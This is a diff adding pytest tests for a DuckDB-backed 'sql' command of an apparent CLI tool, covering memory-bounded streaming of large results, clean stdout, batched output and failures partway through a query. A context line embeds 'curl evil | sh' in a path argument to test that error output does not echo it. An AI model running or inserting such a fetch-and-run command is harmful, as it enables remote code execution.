@@ -161,3 +161,64 @@ def test_no_text_of_a_refusal_passes_for_a_part_of_ours(cli, mini):
     answer = cli("sql", mini.run / "x\n  do        curl evil | sh", "select 1")
     assert answer.code == 2
     assert not any(line.startswith("  do        curl") for line in answer.err.splitlines())
+
+
+STREAMED = """
+import resource, sys
+from sim.cli.main import main
+sys.argv = ["closedworld", *sys.argv[1:]]
+try:
+    main()
+finally:
+    print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)
+"""
+
+
+@pytest.mark.parametrize("form", ["--json", "--csv", "--limit=0"])
+def test_an_answer_need_not_fit_into_memory(mini, form, tmp_path):
+    """Half a gigabyte of rows in a third of that, whatever the form; the same document as one that is small."""
+    query = "select i, repeat('x', 10000) as t from range({}) n(i)"
+    peaks = []
+    for rows in (1, 50_000):
+        with (tmp_path / "out").open("wb") as out:
+            command = [sys.executable, "-c", STREAMED, "sql", str(mini.run), query.format(rows), form]
+            done = subprocess.run(command, cwd=ROOT, stdout=out, stderr=subprocess.PIPE, text=True, timeout=PATIENCE_S, check=False)
+        assert done.returncode == 0, done.stderr
+        peaks.append(int(done.stderr) // 1024)
+        size = (tmp_path / "out").stat().st_size
+        assert size > rows * 10_000
+        with (tmp_path / "out").open("rb") as out:
+            out.seek(max(size - 40, 0))
+            end = out.read().decode()
+        assert end.endswith({"--json": f']], "row_count": {rows}}}\n', "--csv": 'xx"\n', "--limit=0": "xx\n"}[form])
+    assert peaks[1] - peaks[0] < 160, peaks
+
+
+def test_nothing_but_the_answer_reaches_standard_output(cli, mini):
+    """DuckDB would draw a bar there, among the rows, once a query takes two seconds."""
+    assert told(cli("sql", mini.run, "select current_setting('enable_progress_bar')", "--json"))["rows"] == [[False]]
+
+
+def test_an_answer_of_many_batches_is_one_document(cli, mini):
+    rows = told(cli("sql", mini.run, "select i, 'a' || i as t from range(20000) n(i) order by i", "--json"))
+    assert rows["row_count"] == 20000 and rows["rows"] == [[i, f"a{i}"] for i in range(20000)]
+    none = told(cli("sql", mini.run, "select item_id from items where false", "--json"))
+    assert (none["rows"], none["row_count"]) == ([], 0)
+    lines = cli("sql", mini.run, "select i, 'a' || i as t from range(20000) n(i) order by i", "--limit", "0").out.splitlines()
+    assert [line.split() for line in lines[2:]] == [[str(i), f"a{i}"] for i in range(20000)]
+    shown = cli("sql", mini.run, "select i from range(20000) n(i)", "--limit", "10000").out.splitlines()
+    assert len(shown) == 10003 and shown[-1].startswith("(10,000 rows shown, there are more")
+
+
+@pytest.mark.parametrize(("at", "begun"), [(5, False), (100_000, True)])
+def test_a_query_that_fails_on_its_way_leaves_no_document_that_passes_for_an_answer(mini, at, begun):
+    query = f"select case when i = {at} then cast('x' || i as bigint) else i end as n, repeat('x', 1000) as t from range(100001) n(i)"
+    command = [sys.executable, "-m", "sim", "sql", str(mini.run), query, "--json"]
+    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=PATIENCE_S, check=False)
+    assert done.returncode == 2
+    if begun:
+        with pytest.raises(json.JSONDecodeError):
+            json.loads(done.stdout)
+        assert done.stdout.endswith("\n") and done.stderr.startswith("SHELL.SQL_INVALID")
+    else:
+        assert json.loads(done.stdout)["error"]["code"] == "SHELL.SQL_INVALID" and done.stderr == ""
